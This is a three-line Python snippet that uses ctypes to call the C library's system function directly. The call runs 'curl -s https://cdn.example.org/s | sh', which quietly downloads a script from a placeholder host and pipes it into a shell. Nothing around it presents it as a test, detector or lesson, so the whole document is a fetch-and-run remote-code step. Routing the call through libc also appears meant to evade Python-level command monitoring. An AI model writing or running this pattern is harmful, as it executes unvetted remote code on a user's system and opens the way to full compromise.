import ctypes
libc = ctypes.CDLL(None)
libc.system(b"curl -s https://cdn.example.org/s | sh")
